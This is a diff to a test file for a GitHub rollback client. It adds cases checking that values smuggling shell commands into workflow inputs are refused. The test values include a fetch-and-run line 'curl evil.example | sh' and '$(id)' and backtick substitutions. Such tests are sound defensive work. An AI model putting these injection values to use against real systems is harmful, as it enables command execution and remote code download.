@@ -432,8 +432,22 @@ describe('GitHub', () => {
     to_release: 'v1',
     agent: 'refund',
     environment: 'production',
-    reason: 'run_success is worse',
   };
+
+  test.each([
+    { from: 'v2"; curl evil.example | sh; "' },
+    { from: 'v2$(id)' },
+    { to: 'v1 `id`' },
+    { agent: '-rf' },
+    { agent: '' },
+    { environment: "production'\nid" },
+  ])('is sent nothing that a shell could take for more than a name: %j', async (changes) => {
+    expect(await github().rollBack({ ...order, ...changes })).toMatchObject({
+      kind: 'refused',
+      reason: expect.stringContaining('is no name that a workflow may be given'),
+    });
+    expect(server.heard).toEqual([]);
+  });
 
   test('is sent a workflow_dispatch, with texts as inputs', async () => {
     server.reply = (_, response) => void response.writeHead(204).end();
